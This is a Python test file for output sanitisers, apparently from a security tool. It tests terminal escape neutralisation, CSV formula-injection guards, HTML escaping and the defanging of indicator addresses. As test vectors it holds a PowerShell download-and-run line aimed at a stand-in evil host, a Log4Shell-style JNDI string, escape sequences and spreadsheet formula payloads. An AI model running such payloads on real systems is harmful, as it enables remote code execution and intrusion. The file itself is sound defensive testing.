"""What every sink promises, tried on any text that there is."""

import csv as standard_csv
import html as standard_html
import io
import json as standard_json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console

from tocsin.sinks import csv, defang, html, json, terminal

ACTING = {"Cc", "Cf", "Cs", "Zl", "Zp"}  # Unicode's general categories
ANY = st.text(alphabet=st.characters())  # lone surrogates too
ACTIVE = st.text(alphabet=st.sampled_from("=+-@\t\r\n\x00\x1b[]'\"<>&`,.:/ab1\u202e\u200b\x9b\ufeff\ud800"))


@given(ANY | ACTIVE)
def test_safe_text_holds_no_acting_character(text: str) -> None:
    assert not {unicodedata.category(char) for char in terminal.safe(text)} & ACTING


@given(ANY | ACTIVE)
def test_safe_text_is_safe_already(text: str) -> None:
    assert terminal.safe(terminal.safe(text)) == terminal.safe(text)


@given(ANY | ACTIVE, st.integers(0, 40))
def test_safe_text_never_exceeds_its_width(text: str, width: int) -> None:
    assert cell_len(terminal.safe(text, width)) <= width


def test_every_acting_character_of_this_unicode_version_is_made_visible() -> None:
    acting = [
        chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    ]
    assert [char for char in acting if char in terminal.safe(char)] == []


def test_an_escape_sequence_is_shown_and_not_sent() -> None:
    assert terminal.safe("a\x1b[2Jb\x9b31m\u202ec") == "a<ESC>[2Jb<U+009B>31m<U+202E>c"


def test_rich_markup_in_foreign_text_stays_text() -> None:
    out = io.StringIO()
    Console(file=out, width=80, no_color=True).print(terminal.plain("[bold red]x[/] [link=http://a]y"))
    assert out.getvalue() == "[bold red]x[/] [link=http://a]y\n"


@given(st.lists(ANY | ACTIVE, min_size=1, max_size=5))
def test_a_csv_line_reads_back_as_its_cells(values: list[str]) -> None:
    written = csv.line(values)
    assert next(standard_csv.reader(io.StringIO(written, newline=""))) == [csv.cell(value) for value in values]


@given(ACTIVE)
def test_no_csv_cell_starts_like_a_formula(text: str) -> None:
    assert csv.cell(text).lstrip()[:1] not in tuple("=+-@\t\r")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "＝1"])
def test_formulas_become_text(text: str) -> None:
    assert csv.cell(text) == "'" + text


def test_tab_and_line_ends_cannot_start_or_end_a_cell() -> None:
    assert csv.line(["\t=1", "\r\n=2", 3, 'a "b", c']) == '<TAB>=1,<CR><LF>=2,3,"a ""b"", c"\r\n'


@given(ANY | ACTIVE)
def test_json_is_exact_except_for_lone_surrogates(text: str) -> None:
    exact = "".join("\ufffd" if "\ud800" <= char <= "\udfff" else char for char in text)
    written = json.dumps({"a": text})
    assert standard_json.loads(written.encode("utf-8")) == {"a": exact}
    assert terminal.safe(written) == written


@given(ANY | ACTIVE)
def test_html_text_cannot_leave_its_place(text: str) -> None:
    inner = html.isolated(text).removeprefix("<bdi>").removesuffix("</bdi>")
    assert not set(inner) & set("<>\"'`")
    assert standard_html.unescape(inner) == terminal.safe(text)


def test_html_blocks_keep_line_breaks_and_nothing_else() -> None:
    assert html.lines("a\r\nb\x07<i>") == "<bdi>a\nb&lt;BEL&gt;&lt;i&gt;</bdi>"


def test_html_text_is_cut_before_it_is_escaped() -> None:
    assert html.isolated("<<<<<", longest=2) == "<bdi>&lt;&lt;…</bdi>"


@given(ANY | ACTIVE | st.from_regex(r"(https?|ftp|ldap)://[a-z0-9.@:]{1,20}/[a-z.]{0,9}|[\d.]{7,15}|[0-9a-f:]{4,20}"))
def test_defanged_text_stays_the_same(text: str) -> None:
    assert defang.defang(defang.defang(text)) == defang.defang(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("iex http://evil.example/a.ps1", "iex hxxp://evil[.]example/a.ps1"),
        ("http:///a.example http:\\\\b.example", "hxxp:///a[.]example hxxp:\\\\b[.]example"),
        ("HKLM:\\\\Software\\a.b", "HKLM:\\\\Software\\a.b"),
        ("HTTPS://u:p@evil.example:8443?x=a.b", "hxxps://u:p[@]evil[.]example:8443?x=a.b"),
        ("${jndi:ldap://198.51.100.7/a}", "${jndi:ldap[:]//198[.]51[.]100[.]7/a}"),
        ("ftp://files.example", "fxp://files[.]example"),
        ("see www.evil.example now", "see www[.]evil[.]example now"),
        ("from a.b@evil.example", "from a.b[@]evil[.]example"),
        ("203.0.113.9:443", "203[.]0[.]113[.]9:443"),
        ("2001:db8::1", "2001[:]db8[:][:]1"),
        ("10.1.2.3 and 127.0.0.1", "10.1.2.3 and 127.0.0.1"),
        ("10.0.19041.1 C:\\a\\b.exe x.dll", "10.0.19041.1 C:\\a\\b.exe x.dll"),
        ("12:30:59", "12:30:59"),
    ],
)
def test_addresses_are_broken_and_the_rest_is_kept(text: str, expected: str) -> None:
    assert defang.defang(text) == expected
